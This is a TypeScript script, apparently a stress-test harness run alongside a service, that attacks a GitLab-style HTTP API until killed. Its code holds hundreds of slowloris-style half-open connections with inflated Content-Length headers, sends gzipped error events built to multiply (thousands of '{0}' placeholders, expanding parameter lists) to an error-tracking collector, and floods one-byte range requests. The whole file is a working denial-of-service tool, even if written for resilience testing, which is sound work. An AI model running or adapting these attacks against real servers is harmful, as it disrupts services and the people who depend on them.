// A separate process beside the service: node attacker.ts ADDRESS TOKEN PROJECT KEY. It attacks
// until it is killed.
import { randomUUID } from 'node:crypto';
import http from 'node:http';
import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';

const [address = '', token = '', project = '', key = ''] = process.argv.slice(2);
const { hostname, port } = new URL(address);
const bearer = `Authorization: Bearer ${token}\r\n`;
// A separate address, because limits per client must not affect other clients.
const localAddress = '127.0.0.2';
const wait = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));
// Refusals are ignored here; the other process judges.
const quiet = async (act: () => Promise<void>): Promise<void> => {
  for (;;) await act().catch(async () => wait(100));
};

function open(text: string): Socket {
  const socket = connect({ port: Number(port), host: hostname, localAddress });
  socket.on('error', () => {});
  socket.write(text);
  return socket;
}

/** Keeps this many connections open, each with an unfinished request, and reopens closed ones. */
async function holdOpen(count: number, text: () => string, reads: boolean): Promise<void> {
  const sockets = new Set<Socket>();
  await quiet(async () => {
    while (sockets.size < count) {
      const socket = open(text());
      sockets.add(socket);
      socket.once('close', () => sockets.delete(socket));
      if (reads) socket.resume();
      else socket.pause();
      if (sockets.size % 20 === 0) await wait(10);
    }
    await wait(1000);
  });
}

const post = (path: string, bytes: number): string =>
  `POST ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: ${bytes + 100}\r\n\r\n${' '.repeat(bytes)}`;

/** Small events that multiply: a template with thousands of placeholders, and lists that expand. */
async function sendHostileEvents(): Promise<void> {
  const parameters = ['ж'.repeat(60_000), Array.from({ length: 900 }, () => [[]])];
  await quiet(async () => {
    for (const parameter of parameters) {
      const event = {
        event_id: randomUUID().replaceAll('-', ''),
        logentry: { message: '{0}'.repeat(5461), params: [parameter] },
      };
      await ask(
        'POST',
        `/api/v4/error_tracking/collector/api/${project}/store?sentry_key=${key}`,
        gzipSync(JSON.stringify(event)),
        {
          'content-type': 'application/json',
          'content-encoding': 'gzip',
        },
      );
    }
    await wait(200);
  });
}

const agent = new http.Agent({ keepAlive: true, maxSockets: 8 });

async function ask(
  method: string,
  path: string,
  body: Buffer | null,
  headers: http.OutgoingHttpHeaders,
): Promise<void> {
  await new Promise<void>((resolve, reject) => {
    const request = http.request({ host: hostname, port, localAddress, method, path, agent, headers }, (response) =>
      response.resume().once('end', resolve),
    );
    request.once('error', reject).end(body ?? undefined);
  });
}

/** Requests the bytes of a file one by one, at maximum speed. */
async function askTinyRanges(): Promise<void> {
  const headers = { authorization: `Bearer ${token}`, range: 'bytes=0-0', 'user-agent': 'x'.repeat(290) };
  await Promise.all(
    Array.from({ length: 4 }, async () =>
      quiet(async () => ask('GET', '/measurements/soak-large/files/0', null, headers)),
    ),
  );
}

await Promise.all([
  holdOpen(1200, () => post('/api/v4/setup', 1_000_000), true),
  holdOpen(300, () => post('/oauth/token', 15_900), true),
  holdOpen(200, () => 'GET /-/health HTTP/1.1\r\nX: ', true),
  holdOpen(126, () => `GET /measurements/soak-large/files/0 HTTP/1.1\r\nHost: 127.0.0.1\r\n${bearer}\r\n`, false),
  sendHostileEvents(),
  askTinyRanges(),
]);
